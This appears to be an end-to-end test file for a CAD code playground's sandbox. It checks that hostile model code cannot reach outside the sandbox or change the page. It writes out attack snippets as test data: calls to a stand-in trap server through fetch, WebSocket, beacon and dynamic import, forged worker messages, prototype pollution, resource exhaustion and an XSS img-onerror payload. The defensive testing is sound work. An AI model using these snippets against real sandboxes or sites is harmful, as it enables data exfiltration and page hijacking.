import { onlyInFullRun, selectVariants } from '../../support/fullRun';
import { expect, test } from '../../support/test';
import {
  goodModel,
  openLink,
  readOutcome,
  pressRun,
  startTrapServer,
} from '../../support/playground';

/**
 * Attacks that a link may contain. None may reach anything outside the sandbox, and the next model on the page must
 * run. `TRAP` is replaced by the URL of a server that must get no request; `wait()` waits as long as a request takes.
 */
const escapeAttempts: Readonly<Record<string, string>> = {
  fetch: 'await fetch("TRAP/fetch");',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", "TRAP/xhr", false); x.send();',
  WebSocket: 'new WebSocket("TRAP/socket".replace("http", "ws"));',
  EventSource: 'new EventSource("TRAP/events");',
  importScripts: 'importScripts("TRAP/script.js");',
  'dynamic import': 'await new Function("return import(\\"TRAP/module.js\\")")();',
  'dynamic import behind a constructor':
    'await (async () => {}).constructor("return import(\\"TRAP/module.js\\")")();',
  beacon: 'navigator.sendBeacon("TRAP/beacon");',
  'a font': 'await new FontFace("stolen", "url(TRAP/font.woff)").load();',
  'nested worker':
    'const blob = new Blob(["fetch(`TRAP/nested`)"]); new Worker(URL.createObjectURL(blob));',
  'shared worker': 'new SharedWorker("TRAP/shared.js");',
  localStorage: 'localStorage.setItem("stolen", "1");',
  indexedDB: 'indexedDB.open("stolen");',
  caches: 'await caches.open("stolen");',
  'the document': 'document.title = "stolen";',
  'the parent': 'parent.document.title = "stolen"; top.location = "TRAP/top";',
  'messages to other tabs': 'new BroadcastChannel("site").postMessage("stolen");',
};

/** Attacks that may stop the worker or the run. Each needs a separate run. */
const runStoppingAttacks: Readonly<Record<string, string>> = {
  'messages to the page': 'postMessage({ type: "result", id: 1, result: {} }, "*");',
  'a forged answer': `const real = MessagePort.prototype.postMessage;
    Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get() {
      real.call(this.target, { type: "result", id: 1, result: { parts: "<b>stolen</b>" } });
      real.call(this.target, { type: "file", id: 1, bytes: "stolen", mime: "text/html" });
    } });
    await wait();`,
  'the end of the worker': 'close(); await wait();',
};

const misbehaviours: Readonly<Record<string, string>> = {
  'endless recursion': 'const f = () => f() + 1; f();',
  'an endless string': 'let s = "x"; for (;;) s += s;',
  'a huge array': 'new Float64Array(2 ** 40);',
  'a promise that rejects later': 'Promise.reject(new Error("later")); throw new Error("now");',
  'a changed stack trace':
    'Error.prepareStackTrace = () => { throw 1; }; Error.stackTraceLimit = Infinity; undefined.x;',
  'an invalid result': 'return { shape: new Proxy({}, { get() { throw 1; } }) };',
};

const withTrap = (body: string, trap: string) => `import { makeBaseBox } from "replicad";
const wait = () => new Promise((done) => setTimeout(done, 700));
export default async function main() {
  ${body.replaceAll('TRAP', trap)}
  return makeBaseBox(10, 10, 10);
}`;

test.describe('a hostile model', () => {
  test.setTimeout(120_000);

  // Requirement 10.25.
  test('reaches nothing through any global', async ({ page }) => {
    const trap = await startTrapServer();
    const tries = Object.values(escapeAttempts).map((body) => `try { ${body} } catch {}`);
    await openLink(page, withTrap(`${tries.join('\n  ')}\n  await wait();`, trap.url));
    expect(await pressRun(page)).toContain('The model was built');
    expect(trap.hits()).toEqual([]);
    expect(await page.title()).toContain('Playground');
    expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
    trap.stop();
  });

  for (const [what, body] of selectVariants(Object.entries(runStoppingAttacks))) {
    // Requirement 10.25.
    test(`reaches nothing through ${what}, and the next model runs`, async ({ page }) => {
      const trap = await startTrapServer();
      await openLink(page, withTrap(body, trap.url));
      await pressRun(page);
      expect(trap.hits()).toEqual([]);
      expect(await page.title()).toContain('Playground');
      await openLink(page, goodModel);
      expect(await pressRun(page)).toContain('The model was built');
      trap.stop();
    });
  }

  // The worker handles all misbehaviours in the same way, so `npm test` runs only the first.
  for (const [what, body] of selectVariants(Object.entries(misbehaviours))) {
    test(
      `fails with a message if it has ${what}, and the next model runs`,
      onlyInFullRun(
        'Runs nightly: errors seldom change, and the attacks above run the next model as well.',
      ),
      async ({ page }) => {
        await openLink(page, withTrap(body, ''));
        const outcome = await pressRun(page);
        expect(outcome).not.toBe('');
        expect(outcome).not.toContain('The model was built');
        await openLink(page, goodModel);
        expect(await pressRun(page)).toContain('The model was built');
      },
    );
  }

  // Requirement 10.27.
  test('does not run before the reader presses Run', async ({ page }) => {
    const trap = await startTrapServer();
    await openLink(page, withTrap('await fetch("TRAP/early");', trap.url));
    // Pressing Run creates the frame that runs the code.
    await page.evaluate(() => {
      const times = { pressed: NaN, framed: document.querySelector('iframe') ? 0 : NaN };
      Object.assign(window, { times });
      window.addEventListener('click', () => (times.pressed = performance.now()), true);
      new MutationObserver((_, observer) => {
        if (!document.querySelector('iframe')) return;
        times.framed = performance.now();
        observer.disconnect();
      }).observe(document, { childList: true, subtree: true });
    });
    await pressRun(page);
    const { pressed, framed } = await page.evaluate(
      () => (window as unknown as { times: { pressed: number; framed: number } }).times,
    );
    expect(framed).toBeGreaterThanOrEqual(pressed);
    expect(trap.hits()).toEqual([]);
    trap.stop();
  });

  // Requirement 10.26.
  const stopped = onlyInFullRun('Runner.test.ts tests Stop.');
  test('ends on Stop if it loops endlessly, and the next model runs', stopped, async ({ page }) => {
    await openLink(page, withTrap('for (;;);', ''));
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await page.getByText('Building the model').waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: 'Stop' }).click();
    expect(await readOutcome(page)).toContain('Stopped');
    await openLink(page, goodModel);
    expect(await pressRun(page)).toContain('The model was built');
  });

  // Requirement 10.26.
  const endless = onlyInFullRun('Runner.test.ts tests the time limits with a fake clock.');
  test('is stopped after 20 seconds if it never returns', endless, async ({ page }) => {
    await openLink(page, withTrap('await new Promise(() => {});', ''));
    expect(await pressRun(page)).toContain('stopped after 20 seconds');
  });

  // Requirement 10.35.
  test(
    'is stopped if it keeps running after its result, and leaving the page removes the sandbox',
    onlyInFullRun('Runner.test.ts tests the limits.'),
    async ({ page }) => {
      const sandbox = page.locator('iframe[title="Model runner"]');
      const goesOn = 'const again = () => Promise.resolve().then(again); again();';
      await openLink(page, withTrap(`setTimeout(() => { ${goesOn} }, 0); ${goesOn}`, ''));
      expect(await pressRun(page)).toContain('The model was built');
      await expect(sandbox).toHaveCount(0);
      await openLink(page, goodModel);
      expect(await pressRun(page)).toContain('The model was built');
      await expect(sandbox).toHaveCount(1);
      await page.getByRole('link', { name: 'Documentation' }).first().click();
      await page.getByRole('article').waitFor();
      await expect(sandbox).toHaveCount(0);
    },
  );

  // Requirements 10.33, 10.34.
  test(
    'is stopped if it floods the page after its run, and the next run works',
    onlyInFullRun('Runner.test.ts tests the limits.'),
    async ({ page }) => {
      // The listener runs after the worker has restored its globals. It replaces the getter of `data`, so reading the
      // next message floods the port of that message.
      const flood = `const post = MessagePort.prototype.postMessage;
      const later = new MessageChannel();
      later.port1.onmessage = () => {
        Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get() {
          for (;;) post.call(this.currentTarget, { type: "progress", id: 1, stage: "x".repeat(1e6) });
        } });
      };
      post.call(later.port2, null);`;
      await openLink(page, withTrap(flood, ''));
      expect(await pressRun(page)).toContain('The model was built');
      await expect(page.locator('iframe[title="Model runner"]')).toHaveCount(0);
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      await expect(page.getByRole('status', { name: 'Outcome of the run' })).toContainText(
        '(run 2)',
      );
    },
  );

  // Requirement 10.37.
  test(
    'reports uncaught errors and unhandled rejections with their original messages',
    onlyInFullRun('Runs nightly: error messages seldom change.'),
    async ({ page }) => {
      const inTimer = `await new Promise(() => {
      setTimeout(() => { throw new Error("my own mistake"); }, 1);
    });`;
      const inPromise = `await new Promise(() => {
      void (async () => { throw new Error("my own rejection"); })();
    });`;
      await openLink(page, withTrap(inTimer, ''));
      expect(await pressRun(page)).toContain('my own mistake.');
      await expect(page.getByText('Line 5 failed.')).toBeVisible();
      await openLink(page, withTrap(inPromise, ''));
      expect(await pressRun(page)).toContain('my own rejection.');
    },
  );

  // Requirement 10.28.
  test(
    'cannot change the models that run after it',
    onlyInFullRun('Runner.realms.test.ts and realm.test.ts prove that no change survives.'),
    async ({ page }) => {
      const pollution = `Object.prototype.polluted = "yes";
      Array.prototype.map = () => { throw new Error("polluted"); };
      Object.defineProperty(Function.prototype, "stuck", { value: 1 });
      const { Shape } = await import("replicad").catch(() => ({}));`;
      await openLink(page, withTrap(pollution, ''));
      await pressRun(page);
      await openLink(
        page,
        `${goodModel}\nif (({}).polluted || (() => {}).stuck || [1].map((x) => x)[0] !== 1) throw new Error("changed");`,
      );
      expect(await pressRun(page)).toContain('The model was built');
    },
  );

  test('cannot insert markup into the page through names, errors or output', async ({ page }) => {
    const markup = '<img src=x onerror="document.title=\'stolen\'">';
    await openLink(
      page,
      `import { makeBaseBox } from "replicad";
export const defaultParams = { "${markup.replaceAll('"', '\\"')}": 1 };
export default () => {
  console.log(${JSON.stringify(markup)});
  return { shape: makeBaseBox(5, 5, 5), name: ${JSON.stringify(markup)}, color: "url(javascript:0)" };
};`,
    );
    await pressRun(page);
    await openLink(page, withTrap(`throw new Error(${JSON.stringify(markup)});`, ''));
    expect(await pressRun(page)).toContain('<img src=x');
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    expect(await page.title()).toContain('Playground');
  });
});
